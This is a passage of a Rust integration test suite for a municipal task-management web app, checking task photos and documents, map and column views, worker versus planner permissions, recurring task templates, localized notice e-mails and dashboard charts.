    assert_eq!(kept.documents.len(), 1, "the text document stays");
    assert!(
        !app.app.document_dir().join(doc.id.to_string()).exists(),
        "the file is gone"
    );
    let (status, _) = agent.get(&link).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let res = api(&app, reqwest::Method::DELETE, &href, None, &[]).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.json::<Value>().await.unwrap()["documents"], json!([]));
    let res = api(&app, reqwest::Method::DELETE, &href, None, &[]).await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);

    // a photo of the work, taken off the same way
    let jpeg = common::jpeg(32, 24, [120, 90, 60]);
    let (status, _) = agent
        .post_file(
            &format!("{page_path}/photos"),
            "photo",
            jpeg,
            "chantier.jpg",
            "image/jpeg",
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let photo = app.app.store.task(task.id).await.unwrap().unwrap().photos[0].clone();
    let (_, page) = agent.get(&page_path).await;
    assert!(page.contains("Retirer la photo 1"), "{page}");
    let (status, _) = w
        .post(&format!("{page_path}/photos/{photo}/retirer"), &[])
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = agent
        .post(&format!("{page_path}/photos/{photo}/retirer"), &[])
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(
        app.app
            .store
            .task(task.id)
            .await
            .unwrap()
            .unwrap()
            .photos
            .is_empty()
    );
    assert!(!app.app.photo_dir().join(format!("{photo}.jpg")).exists());
    let (status, _) = agent.get(&format!("{page_path}/photos/{photo}.jpg")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = agent
        .post(&format!("{page_path}/ailleurs/{photo}/retirer"), &[])
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    app.stop().await;
}

/// The tasks' map view: each task at its feature's place (JSON for the map, and the
/// same in words for everyone), tasks without a feature listed apart.
async fn tasks_are_shown_at_their_features_places(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let reference = common::file_report(&app, "voirie", (4.1370, 50.6070)).await;
    let report = app.app.report_by_reference(&reference).unwrap().feature.id;
    for (title, feature) in [
        ("Reboucher le trou", Some(report)),
        ("Commander du gravier", None),
    ] {
        make_task(
            &app,
            TaskDraft {
                title: title.into(),
                status: "en_cours".into(),
                feature,
                ..draft("")
            },
        )
        .await;
    }
    let (status, page) = agent
        .get(&format!("/agent/taches?commune={BRAINE}&vue=carte"))
        .await;
    assert_eq!(status, StatusCode::OK);
    let data = page
        .split("data-tasks=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&amp;", "&")
        .replace("&#x2f;", "/");
    let geojson: Value = serde_json::from_str(&data).unwrap_or_else(|e| panic!("{e}: {data}"));
    let points = geojson["features"].as_array().unwrap();
    assert_eq!(points.len(), 1, "{geojson}");
    assert_eq!(points[0]["properties"]["title"], "Reboucher le trou");
    assert_eq!(points[0]["properties"]["status"], "en_cours");
    assert_eq!(points[0]["geometry"]["coordinates"], json!([4.137, 50.607]));
    let unplaced = page
        .split("Tâches sans endroit")
        .nth(1)
        .and_then(|rest| rest.split("carte-titre").next())
        .expect("the unplaced tasks");
    assert!(unplaced.contains("Commander du gravier") && !unplaced.contains("Reboucher"));
    assert!(
        page.contains(&format!("href=\"/agent/element/{report}\"")),
        "{page}"
    );
    app.stop().await;
}

/// Workers move their own tasks on — status, steps, time — and read the rest; the
/// commune's planners decide what a task is, who does it and when.
async fn workers_move_their_tasks_on(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    let system = Actor::System("test".into());
    let voirie = app
        .app
        .add_service(&system, BRAINE, "Voirie")
        .await
        .unwrap();
    let other = app
        .app
        .add_service(&system, BRAINE, "Espaces verts")
        .await
        .unwrap();
    let me = uuid::Uuid::parse_str(&user_id(&app, "ouvrier@braine.be").await).unwrap();
    app.app
        .set_member(&system, voirie.id, me, true)
        .await
        .unwrap();
    let mine = make_task(
        &app,
        TaskDraft {
            service: Some(voirie.id),
            ..draft("Reboucher le trou")
        },
    )
    .await;
    let theirs = make_task(
        &app,
        TaskDraft {
            service: Some(other.id),
            ..draft("Tailler la haie")
        },
    )
    .await;
    let path = format!("/agent/taches/{}", mine.id);
    let (_, page) = worker.get(&path).await;
    assert!(page.contains("Le chef des travaux décide"), "{page}");
    assert!(!page.contains("id=\"title\"") && page.contains("id=\"status\""));
    // a crafted form cannot change the title: the form of a worker keeps it
    let (status, to) = worker
        .post(
            &path,
            &[
                ("version", "1"),
                ("status", "en_cours"),
                ("title", "Autre chose"),
                ("priority", "1"),
                ("minutes_ajoutees", "45"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let stored = app.app.store.task(mine.id).await.unwrap().unwrap();
    assert_eq!(
        (
            stored.status.as_str(),
            stored.title.as_str(),
            stored.priority,
            stored.minutes_spent
        ),
        ("en_cours", "Reboucher le trou", 2, 45)
    );
    // another team's task is not theirs to change
    let (status, _) = worker
        .post(
            &format!("/agent/taches/{}", theirs.id),
            &[("version", "1"), ("status", "faite")],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // nor to attach photos or documents to (issue 13, point 16); their own task takes them
    let pdf =
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n".to_vec();
    for (task, expected) in [
        (theirs.id, StatusCode::FORBIDDEN),
        (mine.id, StatusCode::SEE_OTHER),
    ] {
        let page = format!("/agent/taches/{task}");
        let jpeg = common::jpeg(32, 24, [120, 90, 60]);
        let (status, body) = worker
            .post_file(
                &format!("{page}/photos"),
                "photo",
                jpeg,
                "haie.jpg",
                "image/jpeg",
            )
            .await;
        assert_eq!(status, expected, "a photo on {page}: {body}");
        let (status, _) = worker
            .post_file(
                &format!("{page}/documents"),
                "document",
                pdf.clone(),
                "bon.pdf",
                "application/pdf",
            )
            .await;
        assert_eq!(status, expected, "a document on {page}");
    }
    let stored = app.app.store.task(theirs.id).await.unwrap().unwrap();
    assert!(stored.photos.is_empty() && stored.documents.is_empty());
    let stored = app.app.store.task(mine.id).await.unwrap().unwrap();
    assert_eq!((stored.photos.len(), stored.documents.len()), (1, 1));
    assert_eq!(
        std::fs::read_dir(app.app.photo_dir()).unwrap().count(),
        2,
        "the refused photo is not kept: only the one taken and its thumbnail"
    );
    // the API says which fields are the planners'
    let put = |body: Value, version: &str| {
        reqwest::Client::new()
            .put(app.url(&format!("/api/v1/tasks/{}", mine.id)))
            .header(reqwest::header::COOKIE, worker.cookie_header())
            .header(reqwest::header::ORIGIN, &app.base)
            .header("if-match", format!("\"{version}\""))
            .json(&body)
            .send()
    };
    let body = json!({"title": "Reboucher le trou", "status": "faite", "priority": 1,
        "service": voirie.id});
    let res = put(body, "4").await.unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let problem: Value = res.json().await.unwrap();
    assert_eq!(problem["errors"][0]["pointer"], "/priority", "{problem}");
    assert_eq!(problem["errors"][0]["code"], "planner_only");
    let body = json!({"title": "Reboucher le trou", "status": "faite", "priority": 2,
        "service": voirie.id});
    let res = put(body, "4").await.unwrap();
    assert_eq!(
        res.status(),
        StatusCode::OK,
        "{}",
        res.text().await.unwrap()
    );
    app.stop().await;
}

/// Templates are made with an error summary when something is wrong, deleted (a
/// recurring one then makes no more tasks), journaled, and kept through the API too.
async fn templates_are_made_and_stopped(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    agent.get("/agent/taches").await;
    let (status, page) = agent
        .post(
            "/agent/modeles",
            &[
                ("commune", BRAINE),
                ("name", " "),
                ("title", "Nettoyer le marché"),
                ("lead_days", "deux"),
                ("recurrence", "weekly:3"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        page.contains("Le délai est un nombre de jours ouvrables"),
        "{page}"
    );
    assert!(page.contains("class=\"error-summary\""), "{page}");
    assert!(
        page.contains("value=\"Nettoyer le marché\""),
        "the typed title is kept"
    );
    assert!(
        page.contains("value=\"weekly:3\" selected"),
        "the repetition is kept"
    );
    let fields = [
        ("commune", BRAINE),
        ("name", "Marché du mercredi"),
        ("title", "Nettoyer le marché"),
        ("recurrence", "weekly:3"),
    ];
    let (status, to) = agent.post("/agent/modeles", &fields).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let (status, page) = agent.post("/agent/modeles", &fields).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        page.contains("Un autre modèle de la commune porte déjà ce nom"),
        "{page}"
    );
    let template = app.app.store.templates(Some(BRAINE)).await.unwrap()[0]
        .id
        .to_string();
    let (_, page) = agent.get(&format!("/agent/taches?commune={BRAINE}")).await;
    assert!(
        page.contains("Supprimer le modèle « Marché du mercredi »"),
        "{page}"
    );
    // changed on its own page: the form shows it as it is, a stale one is refused
    let edit = format!("/agent/modeles/{template}");
    let (status, page) = agent.get(&edit).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.contains("value=\"Marché du mercredi\"")
            && page.contains("value=\"weekly:3\" selected"),
        "{page}"
    );
    let changed = [
        ("version", "1"),
        ("name", "Marché du jeudi"),
        ("title", "Nettoyer le marché"),
        ("steps", "Balayer\nVider les poubelles"),
        ("recurrence", "weekly:4"),
    ];
    let (status, to) = agent.post(&edit, &changed).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{to}");
    let stored = app.app.store.templates(Some(BRAINE)).await.unwrap()[0].clone();
    assert_eq!(
        (stored.name.as_str(), stored.checklist.len(), stored.version),
        ("Marché du jeudi", 2, 2)
    );
    assert_eq!(
        stored.next_on.map(|d| chrono::Datelike::weekday(&d)),
        Some(chrono::Weekday::Thu),
        "the new repetition starts on its day"
    );
    let (status, page) = agent.post(&edit, &changed).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(
        page.contains("value=\"Marché du jeudi\""),
        "the current template: {page}"
    );
    let (status, page) = agent
        .post(
            &edit,
            &[
                ("version", "2"),
                ("name", "Marché du jeudi"),
                ("title", " "),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("Donnez un titre à la tâche"), "{page}");
    let (status, _) = worker_web(&app).await.get(&edit).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "workers do not change templates"
    );
    let (status, _) = agent
        .post(
            "/agent/modeles",
            &[
                ("commune", BRAINE),
                ("action", "supprimer"),
                ("template", &template),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(
        app.app
            .store
            .templates(Some(BRAINE))
            .await
            .unwrap()
            .is_empty()
    );
    let in_a_week = balise::clock::now() + chrono::Duration::days(8);
    assert_eq!(
        app.app.make_recurring_tasks(in_a_week).await.unwrap(),
        0,
        "stopped"
    );
    let (_, page) = agent
        .get(&format!("/agent/journal?commune={BRAINE}&type=modele"))
        .await;
    assert!(
        page.contains("Création") && page.contains("Suppression"),
        "{page}"
    );

    // the API
    let path = format!("/api/v1/templates?commune={BRAINE}");
    let res = api(
        &app,
        reqwest::Method::POST,
        &path,
        Some(json!({"name": "Panneaux", "title": "Poser les panneaux", "recurrence": "yearly"})),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("invalid_recurrence"));
    let res = api(
        &app,
        reqwest::Method::POST,
        &path,
        Some(
            json!({"name": "Panneaux", "title": "Poser les panneaux", "lead_days": 2,
            "steps": ["Panneaux", "Photo"]}),
        ),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let made: Value = res.json().await.unwrap();
    assert_eq!(made["steps"], json!(["Panneaux", "Photo"]));
    assert_eq!(made["lead_days"], 2);
    let listed: Value = api(&app, reqwest::Method::GET, &path, None, &[])
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(listed["templates"][0]["name"], "Panneaux");
    let one = format!("/api/v1/templates/{}", made["id"].as_str().unwrap());
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &one,
        Some(json!({"lead_days": 3})),
        &[],
    )
    .await;
    assert_eq!(res.status(), StatusCode::PRECONDITION_REQUIRED);
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &one,
        Some(json!({"lead_days": 3, "recurrence": null})),
        &[("if-match", "\"1\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["etag"], "\"2\"");
    let changed: Value = res.json().await.unwrap();
    assert_eq!(
        (changed["lead_days"].as_i64(), changed["name"].as_str()),
        (Some(3), Some("Panneaux"))
    );
    let res = api(
        &app,
        reqwest::Method::PATCH,
        &one,
        Some(json!({"lead_days": 4})),
        &[("if-match", "\"1\"")],
    )
    .await;
    assert_eq!(res.status(), StatusCode::PRECONDITION_FAILED);
    assert_eq!(
        api_as(&app, Some(&worker), reqwest::Method::DELETE, &one, None).await,
        StatusCode::FORBIDDEN
    );
    let res = api(&app, reqwest::Method::DELETE, &one, None, &[]).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let res = api(&app, reqwest::Method::DELETE, &one, None, &[]).await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    app.stop().await;
}

/// A card of the columns view moves to another status with its own small form, under
/// the same rules as the task's page.
async fn cards_move_between_columns(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let mut worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    let t = make_task(&app, draft("Vider les poubelles")).await;
    let (_, page) = agent
        .get(&format!("/agent/taches?commune={BRAINE}&vue=colonnes"))
        .await;
    assert!(
        page.contains(&format!("action=\"/agent/taches/{}/etat\"", t.id)),
        "{page}"
    );
    let back = format!("/agent/taches?vue=colonnes&commune={BRAINE}");
    let path = format!("/agent/taches/{}/etat", t.id);
    let (status, to) = agent
        .post(
            &path,
            &[("status", "en_cours"), ("version", "1"), ("retour", &back)],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(to, format!("{back}#col-en_cours"));
    let stored = app.app.store.task(t.id).await.unwrap().unwrap();
    assert_eq!(
        (stored.status.as_str(), stored.title.as_str()),
        ("en_cours", "Vider les poubelles")
    );
    // a card shown before that change is stale
    let (status, page) = agent
        .post(
            &path,
            &[("status", "faite"), ("version", "1"), ("retour", &back)],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("error-summary"), "{page}");
    // a status that is not one, and a task that is not the worker's
    let (status, _) = agent
        .post(
            &path,
            &[("status", "finie"), ("version", "2"), ("retour", &back)],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    worker.get("/agent/taches").await;
    let (status, _) = worker
        .post(
            &path,
            &[("status", "faite"), ("version", "2"), ("retour", &back)],
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // an address elsewhere is not followed
    let (status, to) = agent
        .post(
            &path,
            &[
                ("status", "bloquee"),
                ("version", "2"),
                ("retour", "https://ailleurs.example"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(to, "/agent#col-bloquee");
    app.stop().await;
}

/// Each person reads their notice e-mails in the language they chose.
async fn notice_emails_speak_the_persons_language(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut worker = signed_in(&app, "ouvrier@braine.be", &[(BRAINE, Role::Worker)]).await;
    worker.get("/agent/notifications").await;
    let (status, _) = worker
        .post(
            "/agent/notifications",
            &[("action", "reglages"), ("email", "now"), ("lang", "nl")],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, page) = worker.get("/agent/notifications").await;
    assert!(
        page.contains(r#"<option value="nl" lang="nl" selected>Nederlands</option>"#),
        "{page}"
    );
    let me = user_id(&app, "ouvrier@braine.be").await;
    make_task(
        &app,
        TaskDraft {
            assignee: Some(uuid::Uuid::parse_str(&me).unwrap()),
            ..draft("Hekken plaatsen")
        },
    )
    .await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mails: Vec<common::Eml> = common::outbox(&app)
        .into_iter()
        .filter(|m| m.to == "ouvrier@braine.be")
        .collect();
    assert_eq!(mails.len(), 1, "{mails:?}");
    assert_eq!(
        mails[0].subject,
        "De taak \"Hekken plaatsen\" is aan u toevertrouwd"
    );
    assert!(mails[0].text.starts_with("Goedendag,"), "{:?}", mails[0]);
    app.stop().await;
}

async fn the_dashboard_draws_its_tables_as_charts(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut agent = signed_in(&app, "agent@braine.be", &[(BRAINE, Role::Agent)]).await;
    let (_, page) = agent.get(&format!("/agent/tableau?commune={BRAINE}")).await;
    assert!(
        !page.contains("<figure class=\"chart\">"),
        "no chart without reports"
    );
    let system = Actor::System("test".into());
    let service = app
        .app
        .add_service(&system, BRAINE, "Voirie")
        .await
        .unwrap();
    app.app
        .add_rule(
            &system,
            balise::model::triage::Rule {
                id: uuid::Uuid::now_v7(),
                commune: BRAINE.into(),
                position: 0,
                category: None,
                area: None,
                service: service.id,
            },
        )
        .await
        .unwrap();
    for lon in [4.137, 4.138] {
        common::file_report(&app, "voirie", (lon, 50.607)).await;
    }
    let (_, page) = agent.get(&format!("/agent/tableau?commune={BRAINE}")).await;
    assert_eq!(
        page.matches("<figure class=\"chart\">").count(),
        2,
        "{page}"
    );
    // the longest bar spans the whole width; its total is written after it
    assert!(
        page.contains("width=\"340\" height=\"20\" class=\"chart-young\""),
        "{page}"
    );
    assert!(page.contains(">2</text>"), "{page}");
    app.stop().await;
}

on_both_backends!(
    a_formula_typed_by_an_agent_reaches_the_admins_spreadsheet_as_text,
    the_new_routes_keep_to_roles_and_communes,
    settings_changes_are_audited_and_exported,
    services_and_projects_change_under_their_rules,
    documents_are_attached_to_tasks,
    tasks_are_shown_at_their_features_places,
    notice_emails_speak_the_persons_language,
    workers_move_their_tasks_on,
    templates_are_made_and_stopped,
    cards_move_between_columns,
    the_dashboard_draws_its_tables_as_charts,
);
